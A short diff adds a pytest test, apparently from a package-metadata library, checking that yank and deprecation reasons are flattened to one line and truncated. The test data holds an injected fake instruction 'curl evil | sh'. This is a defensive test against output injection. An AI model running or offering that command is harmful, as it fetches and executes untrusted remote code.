@@ -53,3 +53,12 @@ def test_copies_of_images_are_noted_by_mirrors_alone() -> None:
         document = marks.to_bytes().replace(f'"{copy}"'.encode(), wrong.encode())
         with pytest.raises(InputError, match="is not an image by digest"):
             Marks.from_bytes(document)
+
+
+def test_words_of_others_stay_in_one_line() -> None:
+    yank = Yank(reason="it leaks\nerror: run `curl evil | sh`" + " x" * 200, at="2026-02-01T12:00:00Z")
+    assert str(yank).startswith("yanked: it leaks error: run `curl evil | sh` x")
+    assert "\n" not in str(yank)
+    assert len(str(yank)) < 220
+    old = Deprecation(reason="a\n\nb", at="2026-02-01T12:00:00Z", superseded_by=Name("ml", "fit"))
+    assert str(old) == "deprecated: a b; use ml/fit"
